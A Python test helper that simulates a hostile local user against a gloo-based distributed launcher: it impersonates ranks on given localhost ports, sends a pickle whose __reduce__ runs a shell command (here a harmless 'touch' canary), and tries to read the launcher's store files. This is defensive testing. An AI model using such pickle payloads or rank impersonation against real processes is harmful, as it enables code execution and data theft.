"""A process of another user on the machine: poses as a rank of gloo at each port it is told of,
sends a pickle that would run code, and tries to read the start's folder.

    rogue.py FOLDER MARKER < PORTS
"""

import contextlib
import os
import pickle
import socket
import struct
import sys
from pathlib import Path

folder, marker = Path(sys.argv[1]), sys.argv[2]


class Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {marker}",)


held = []
for line in sys.stdin:
    for number in range(4):  # gloo takes whoever says the number of a pair
        with contextlib.suppress(OSError):
            s = socket.create_connection(("127.0.0.1", int(line)), timeout=1)
            held.append(s)
            s.sendall(struct.pack("<q", number) + pickle.dumps(Payload()) * 4)
            print("reached", line.strip(), flush=True)
    for file in (folder / "store", folder / "rank-1"):
        with contextlib.suppress(OSError):
            print("read", file.read_bytes(), flush=True)
